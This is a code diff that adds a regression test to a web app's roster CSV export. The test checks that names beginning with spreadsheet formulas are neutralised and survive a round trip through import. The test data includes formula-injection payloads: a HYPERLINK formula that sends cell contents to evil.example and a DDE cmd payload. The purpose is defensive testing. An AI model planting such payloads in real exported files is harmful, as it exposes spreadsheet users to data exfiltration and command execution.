@@ -1,3 +1,4 @@
+import { parse as parseCsv } from 'csv-parse/sync';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { DIALECTS } from '../../../test/support/databases.js';
 import { Client, DEMO_PASSWORD, reportBody, testApp, type TestApp } from '../../../test/support/server.js';
@@ -284,6 +285,27 @@ for (const dialect of DIALECTS) {
       const res = await admin.post('/api/org/roster.csv', exported.body, CSV);
       expect(res.statusCode, res.body).toBeLessThan(500);
       expect((await admin.get('/api/org/roster')).json()).toHaveLength(before.length);
+    });
+
+    it('the people export cannot carry a spreadsheet formula, and imports back unchanged', async () => {
+      const names = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '钱七'];
+      const added = [];
+      for (const name of names) added.push(await addPerson({ name, unit_id: 'town-fushan', phone: '+8613800000001' }));
+      const exported = await admin.get('/api/org/people.csv');
+      const rows = parseCsv(exported.body.replace(/^\ufeff/, ''), { columns: true }) as Record<string, string>[];
+      const byId = new Map(rows.map((r) => [r.id, r]));
+      for (const person of added) {
+        const cell = byId.get(person.id)!.name!;
+        expect(cell, person.name).not.toMatch(/^[=+\-@\t\r]/);
+        expect(cell).toBe(person.name === '钱七' ? '钱七' : `'${person.name}`);
+        // A phone number is a number to a spreadsheet, not a formula: left as it is.
+        expect(byId.get(person.id)!.phone).toBe('+8613800000001');
+      }
+      const res = await admin.post('/api/org/people.csv', exported.body, CSV);
+      expect(res.statusCode, res.body).toBe(200);
+      const after = new Map((await people()).map((p: any) => [p.id, p.name]));
+      // `'\t=1+1` is trimmed by the importer like any cell; every other name comes back as it was.
+      for (const person of added.filter((p) => !p.name.startsWith('\t'))) expect(after.get(person.id)).toBe(person.name);
     });
 
     // Regression (found by these tests): orgRepository.holders() drops deactivated people for ordinary positions
